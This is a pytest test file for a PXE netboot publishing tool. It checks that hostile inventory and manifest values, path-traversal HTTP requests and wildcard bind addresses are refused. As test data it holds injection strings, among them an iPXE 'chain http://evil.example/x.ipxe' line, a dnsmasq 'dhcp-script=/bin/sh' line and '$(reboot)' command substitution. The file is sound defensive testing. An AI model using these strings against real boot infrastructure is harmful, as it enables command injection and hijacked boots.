"""Hostile inventories, pxe-roots, netboot sets and URLs, and every spelling of the any-address.

Inventory strings reach iPXE scripts, kernel command lines and dnsmasq's configuration; a newline there adds
commands, a space adds kernel arguments. Each case runs `builder` (in process, through the entry point's
`execute`: tests/conftest.py run_cli_inproc) and checks that the pxe-root stays untouched.
"""

import hashlib
import http.client
import json
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
import requests

from conftest import ROOT, free_port, run_cli_inproc
from hostile import changed, refused, write_yaml

MAC = "52:54:00:12:34:56"
SHA = "c" * 64
INVENTORY: dict[str, object] = {
    "control": {"address": "10.0.2.2", "http_port": 8000, "subnet": "10.0.2.0"},
    "nodes": [{"name": "node1", "mac": MAC, "target": "cpu", "role": "rpc-worker", "address": "10.0.2.15"}],
}


def netboot_set(folder: Path, **manifest_changes: object) -> Path:
    """DIR/cpu-cpu as `pxe pull` leaves it: three small files and their manifest."""
    files = {}
    folder.mkdir(parents=True, exist_ok=True)
    for name in ("vmlinuz", "initrd.img", "root.squashfs"):
        data = f"{name} stand-in".encode()
        (folder / name).write_bytes(data)
        files[name] = {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
    manifest = {"schema": 1, "target": "cpu", "variant": "cpu", "image": "localhost/builder/cpu:cpu",
                "image_digest": "sha256:" + "0" * 64, "kernel_version": "6.1.0-0-amd64", "files": files,
                **manifest_changes}
    (folder / "manifest.json").write_text(json.dumps(manifest))
    return folder


def publish(tmp_path: Path, inventory: object, **manifest_changes: object) -> subprocess.CompletedProcess[str]:
    sets = tmp_path / "sets"
    netboot_set(sets / "cpu-cpu", **manifest_changes)
    path = write_yaml(tmp_path / "cluster.yaml", inventory)
    return run_cli_inproc("pxe", "publish", str(path), "--root", str(tmp_path / "pxe-root"),
                   "--artifacts", str(sets))


NODE = "nodes"
INVENTORY_CASES = [
    ("name-newline", NODE, [{"name": "n1\nshell", "mac": MAC, "target": "cpu", "role": "rpc-worker",
                             "address": "10.0.2.15"}], "nodes[0].name"),
    ("mac-trailing-newline", NODE, [{"name": "n1", "mac": MAC + "\n", "target": "cpu", "role": "rpc-worker",
                                     "address": "10.0.2.15"}], "nodes[0].mac"),
    ("kernel-arg-second-root-hash", NODE, [{"name": "n1", "mac": MAC, "target": "cpu", "role": "rpc-worker",
                                            "address": "10.0.2.15", "kernel_args": [f"builder.sha256={SHA}"]}],
     "nodes[0].kernel_args[0]"),
    ("kernel-arg-space", NODE, [{"name": "n1", "mac": MAC, "target": "cpu", "role": "rpc-worker",
                                 "address": "10.0.2.15", "kernel_args": [f"quiet builder.sha256={SHA}"]}],
     "nodes[0].kernel_args[0]"),
    ("kernel-arg-newline-ipxe", "kernel_args", ["quiet\nchain http://evil.example/x.ipxe"], "kernel_args[0]"),
    ("kernel-arg-ipxe-setting", "kernel_args", ["x=${net0/ip}"], "kernel_args[0]"),
    ("kernel-arg-initrd", "kernel_args", ["initrd=evil"], "kernel_args[0]"),
    ("control-address-newline", "control.address", "10.0.2.2\nshell", "control.address"),
    ("control-address-space", "control.address", "10.0.2.2 builder.sha256=x", "control.address"),
    ("node-address-zone-newline", NODE, [{"name": "n1", "mac": MAC, "target": "cpu", "role": "rpc-worker",
                                          "address": "fe80::1%eth0\nshell"}], "nodes[0].address"),
    ("interface-dnsmasq-line", "control.interface", "eth0\ndhcp-script=/bin/sh", "control.interface"),
    ("subnet-dnsmasq-line", "control.subnet", "10.0.2.0\nenable-tftp", "control.subnet"),
    ("model-url-space", "model", f"http://10.0.2.2/m.gguf builder.sha256={SHA}", "model"),
    ("model-url-newline", "model", "http://10.0.2.2/m.gguf\nshell", "model"),
    ("model-url-credentials", "model", "http://me:pw@10.0.2.2/m.gguf", "model"),
    ("target-newline", NODE, [{"name": "n1", "mac": MAC, "target": "cpu\nshell", "role": "rpc-worker",
                               "address": "10.0.2.15"}], "nodes[0]"),
    # A cache device's name reaches the kernel command line and the initramfs' shell: a stable name only.
    ("cache-unstable-name", "cache", {"device": "/dev/sda"}, "cache.device"),
    ("cache-by-id-traversal", "cache", {"device": "/dev/disk/by-id/../../sda"}, "cache.device"),
    ("cache-partlabel-space", "cache", {"device": f"PARTLABEL=x builder.sha256={SHA}"}, "cache.device"),
    ("cache-partlabel-shell", "cache", {"device": "PARTLABEL=$(reboot)"}, "cache.device"),
    ("cache-partlabel-newline", "cache", {"device": "PARTLABEL=cache\nshell"}, "cache.device"),
    ("cache-wipe-text", "cache", {"device": "PARTLABEL=cache", "wipe": "yes please"}, "cache.wipe"),
    ("cache-node-unknown-key", NODE, [{"name": "n1", "mac": MAC, "target": "cpu", "role": "rpc-worker",
                                       "address": "10.0.2.15", "cache": {"device": "PARTLABEL=c", "size": 1}}],
     "nodes[0].cache"),
    ("ram-share-zero", "ram_share", 0, "ram_share"),
]


@pytest.mark.parametrize(("path", "value", "needle"), [c[1:] for c in INVENTORY_CASES],
                         ids=[c[0] for c in INVENTORY_CASES])
def test_hostile_inventory_is_refused(tmp_path: Path, path: str, value: object, needle: str) -> None:
    proc = publish(tmp_path, changed(INVENTORY, path, value))
    refused(proc, "cluster.yaml", needle, absent=(tmp_path / "pxe-root",))


def test_inventory_model_must_be_a_gguf_file(tmp_path: Path) -> None:
    """A model on the control node is published to every node over HTTP: never any other file."""
    secret = tmp_path / "secret.key"
    secret.write_text("not a model\n")
    head = {"name": "head", "mac": "52:54:00:12:34:57", "target": "cpu", "role": "head"}
    inventory = changed(INVENTORY, "model", str(secret))
    inventory["nodes"] = [*INVENTORY["nodes"], head]  # type: ignore[misc]
    refused(publish(tmp_path, inventory), "cluster.yaml", "model", "not a GGUF file",
            absent=(tmp_path / "pxe-root",))


PULLED_CASES = [
    ("file-name-traversal", {"files": {"../../../etc/hostname": {"sha256": SHA, "size": 1}}}, "files"),
    ("sha-traversal", {"files": {n: {"sha256": "../../x", "size": 1} for n in ("vmlinuz", "initrd.img",
                                                                                "root.squashfs")}},
     "files.vmlinuz: needs sha256"),
    ("target-newline", {"target": "cpu\nshell"}, "target"),
    ("digest-newline", {"image_digest": "sha256:" + "0" * 64 + "\nchain http://evil.example/"}, "image_digest"),
    # The verity fields go onto the kernel command line and into dmsetup's table.
    ("verity-hash-word", {"verity": {"root_hash": SHA + " builder.cache=id:x", "salt": SHA, "data_blocks": 1,
                                     "algorithm": "sha256"}}, "verity"),
    ("verity-blocks-text", {"verity": {"root_hash": SHA, "salt": SHA, "data_blocks": "1 2",
                                       "algorithm": "sha256"}}, "verity"),
    ("verity-extra-key", {"verity": {"root_hash": SHA, "salt": SHA, "data_blocks": 1, "algorithm": "sha256",
                                     "table": "0 1 linear /dev/sda 0"}}, "verity"),
]


@pytest.mark.parametrize(("manifest", "needle"), [c[1:] for c in PULLED_CASES], ids=[c[0] for c in PULLED_CASES])
def test_hostile_pulled_netboot_set_is_refused(tmp_path: Path, manifest: dict[str, object], needle: str) -> None:
    refused(publish(tmp_path, INVENTORY, **manifest), "manifest.json", needle, absent=(tmp_path / "pxe-root",))


def _published_root(tmp_path: Path) -> Path:
    proc = publish(tmp_path, INVENTORY)
    assert proc.returncode == 0, proc.stderr
    return tmp_path / "pxe-root"


def _tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): (p.read_bytes() if p.is_file() else b"") for p in sorted(root.rglob("*"))}


HISTORY_CASES = [
    ("damaged-json", '[{"id": "', "damaged JSON"),
    ("not-a-list", '{"id": "x"}', "expected a list"),
    ("id-traversal", '[{"id": "../../../tmp", "published": 1}]', "[0].id"),
    ("published-huge", '[{"id": "0123456789abcdef", "published": 1e300}]', "[0].published"),
    ("published-text", '[{"id": "0123456789abcdef", "published": "yesterday"}]', "[0].published"),
]


@pytest.mark.parametrize(("body", "needle"), [c[1:] for c in HISTORY_CASES], ids=[c[0] for c in HISTORY_CASES])
def test_damaged_history_is_one_line_for_list_and_rollback(tmp_path: Path, body: str, needle: str) -> None:
    root = _published_root(tmp_path)
    (root / "history.json").write_text(body)
    before = _tree(root)
    refused(run_cli_inproc("pxe", "list", "--root", str(root)), "history.json", needle)
    refused(run_cli_inproc("pxe", "rollback", "--root", str(root)), "history.json", needle)
    assert _tree(root) == before


def test_rollback_to_a_path_is_refused(tmp_path: Path) -> None:
    root = _published_root(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    before = _tree(root)
    refused(run_cli_inproc("pxe", "rollback", "--root", str(root), "--to", "../../outside"), "no generation")
    assert _tree(root) == before and outside.is_dir()


def _raw_get(port: int, path: str) -> int:
    """A request sent as written: clients such as requests normalise '..' away before sending."""
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
    try:
        conn.putrequest("GET", path, skip_accept_encoding=True)
        conn.endheaders()
        return conn.getresponse().status
    finally:
        conn.close()


def test_served_urls_cannot_leave_the_boot_files(tmp_path: Path) -> None:
    root = _published_root(tmp_path)
    generation = (root / "current").resolve()
    # a symlink inside a generation (a crafted set could carry one) must not lead out of the root
    (tmp_path / "secret").write_text("secret\n")
    (generation / "nodes" / "leak.ipxe").symlink_to(tmp_path / "secret")
    port = free_port()
    server = subprocess.Popen([sys.executable, "-m", "builder", "pxe", "serve", "--root", str(root),
                               "--bind", "127.0.0.1", "--port", str(port)], cwd=ROOT,
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        for _ in range(100):
            try:
                ok = requests.get(f"http://127.0.0.1:{port}/current/boot.ipxe", timeout=2)
                break
            except requests.ConnectionError:
                time.sleep(0.1)
        assert ok.status_code == 200
        for path in ("/current/../history.json", "/current/%2e%2e/history.json", "/current/..%2fhistory.json",
                     "/blobs/sha256/../../history.json", "/tftp/../current/cluster.yaml",
                     "/current/nodes/../../../history.json", "/current//cluster.yaml", "/current/nodes/leak.ipxe",
                     "/current/cluster.yaml%00.ipxe", "/current/..\\history.json"):
            assert _raw_get(port, path) == 404, path
        assert _raw_get(port, "/current/boot.ipxe") == 200
    finally:
        server.terminate()
        server.wait(timeout=10)


WILDCARDS = ["0", "::0", "0.0.0.0", "[::]", "0:0:0:0:0:0:0:0", "::", "0x0", "000.000.000.000", "0.0", "0.0.0",
             "0x00000000", "00", "::ffff:0.0.0.0", "[0::0]", "0:0::0", " 0.0.0.0", "0.0.0.0%eth0", "*", "ANY",
             "INADDR_ANY"]
ENTRYPOINTS = {"rpc-worker": ROOT / "images" / "scripts" / "entrypoint.sh",
               "ray-head": ROOT / "images" / "vllm" / "scripts" / "entrypoint.sh",
               "ray-worker": ROOT / "images" / "vllm" / "scripts" / "entrypoint.sh"}


@pytest.mark.parametrize("role", sorted(ENTRYPOINTS))
@pytest.mark.parametrize("address", WILDCARDS)
def test_every_spelling_of_the_any_address_is_refused(role: str, address: str, tmp_path: Path) -> None:
    """The entrypoints refuse before they start a server, so this runs on the host without an image."""
    proc = subprocess.run(["bash", str(ENTRYPOINTS[role]), role, "--head", "10.0.0.1:6379", "--host", address],
                          capture_output=True, text=True, timeout=30, cwd=tmp_path)
    assert proc.returncode == 2, proc.stderr
    assert "refusing to listen on" in proc.stderr and "--allow-public-bind" in proc.stderr


@pytest.mark.parametrize("address", ["127.0.0.1", "10.0.0.5", "0.0.0.1", "::1", "fe80::1", "localhost"])
def test_private_addresses_pass_the_wildcard_check(address: str, tmp_path: Path) -> None:
    """Past the check the entrypoint execs ggml-rpc-server, which this host lacks: a refusal would say so first.
    (--allow-fallback: the device check that comes next finds no llama.cpp on this host either.)"""
    proc = subprocess.run(["bash", str(ENTRYPOINTS["rpc-worker"]), "rpc-worker", "--host", address,
                           "--allow-fallback"],
                          capture_output=True, text=True, timeout=30, cwd=tmp_path,
                          env={"PATH": "/usr/bin:/bin", "LLAMA_CACHE": str(tmp_path)})
    assert "refusing" not in proc.stderr and f"ggml-rpc-server on {address}:50052" in proc.stderr
    assert shutil.which("ggml-rpc-server", path="/usr/bin:/bin") or proc.returncode == 127
